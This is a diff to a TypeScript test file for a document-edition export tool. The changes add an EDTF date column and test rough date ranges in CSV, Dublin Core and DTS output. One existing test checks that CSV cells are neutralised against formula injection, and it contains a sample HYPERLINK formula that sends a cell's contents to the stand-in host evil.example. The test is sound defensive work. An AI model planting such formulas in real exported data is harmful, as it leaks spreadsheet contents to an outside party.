@@ -6,7 +6,7 @@ import { findXmlFiles, loadSources } from '../../src/load/load.js';
 import { parse } from '../../src/parse/parse.js';
 import { toCsv } from '../../src/site/export.js';
 import { validate } from '../../src/validate/validate.js';
-import { read, removeDir, requireShared, runCli, teiAllSchema, tempDir } from '../helpers.js';
+import { fixtures, read, removeDir, requireShared, runCli, teiAllSchema, tempDir } from '../helpers.js';
 
 describe('export (the edition as data for repositories)', function () {
   this.timeout(120_000);
@@ -55,17 +55,34 @@ describe('export (the edition as data for repositories)', function () {
     expect(rows[0]!.persons).to.deep.equal(['Võ Nguyên Giáp', 'Phung The Tai']);
     expect(rows[2]!.place).to.equal('Pyongyang');
     const csv = read(path.join(out, 'metadata', 'documents.csv')).split('\r\n');
-    expect(csv[0]).to.equal('id,title,date,place,persons,places,organisations,url');
-    expect(csv[3]).to.match(/^1967-07-06-telegram-pyongyang-bucharest,"Telegram from Pyongyang to Bucharest, No\. 76\.247",1967-07-06,Pyongyang,/);
+    expect(csv[0]).to.equal('id,title,date,date_edtf,place,persons,places,organisations,url');
+    expect(csv[3]).to.match(/^1967-07-06-telegram-pyongyang-bucharest,"Telegram from Pyongyang to Bucharest, No\. 76\.247",1967-07-06,1967-07-06,Pyongyang,/);
+  });
+
+  it('gives a date with a range or a doubt in EDTF, in the tables, Dublin Core and the DTS record', () => {
+    const rough = tempDir();
+    try {
+      expect(runCli(['export', path.join(fixtures, 'editions', 'letters-dated-roughly'), '--out', rough]).status).to.equal(0);
+      const rows = JSON.parse(read(path.join(rough, 'metadata', 'documents.json'))) as { id: string; date: string; date_edtf: string }[];
+      expect(rows.slice(0, 2).map(({ id, date, date_edtf }) => [id, date, date_edtf])).to.deep.equal([
+        ['R1', '1890-09-01', '[1890-09-01..1890-11-30]'],
+        ['R2', '1890-10', '1890-10?'],
+      ]);
+      expect(read(path.join(rough, 'metadata', 'R1.dc.xml'))).to.contain('<dc:date>[1890-09-01..1890-11-30]</dc:date>');
+      const resource = JSON.parse(read(path.join(rough, 'dts', 'collection', 'R2.json')));
+      expect(resource.dublinCore.date).to.equal('1890-10?');
+    } finally {
+      removeDir(rough);
+    }
   });
 
   it('quotes CSV fields as RFC 4180 says', () => {
-    const row = { id: 'a', title: 'He said "no", twice', date: '', place: '', persons: ['x', 'y'], places: [], organisations: [], url: '' };
-    expect(toCsv([row]).split('\r\n')[1]).to.equal('a,"He said ""no"", twice",,,x; y,,,');
+    const row = { id: 'a', title: 'He said "no", twice', date: '', date_edtf: '', place: '', persons: ['x', 'y'], places: [], organisations: [], url: '' };
+    expect(toCsv([row]).split('\r\n')[1]).to.equal('a,"He said ""no"", twice",,,,x; y,,,');
   });
 
   it('neutralises CSV fields a spreadsheet would run as formulas, and only those', () => {
-    const row = (title: string, persons: string[] = []) => ({ id: 'a', title, date: '', place: '', persons, places: [], organisations: [], url: '' });
+    const row = (title: string, persons: string[] = []) => ({ id: 'a', title, date: '', date_edtf: '', place: '', persons, places: [], organisations: [], url: '' });
     const titleCell = (title: string, persons?: string[]): string => toCsv([row(title, persons)]).split('\r\n')[1]!.split(',')[1]!;
     expect(titleCell('=HYPERLINK("http://evil.example/?"&A1;"Click")')).to.equal(`"'=HYPERLINK(""http://evil.example/?""&A1;""Click"")"`);
     for (const formula of ['+1+1', '-2+3', '@SUM(A1)', '\t=1', ' =1', '\uff1d1']) expect(titleCell(formula), JSON.stringify(formula)).to.match(/^"?'/);
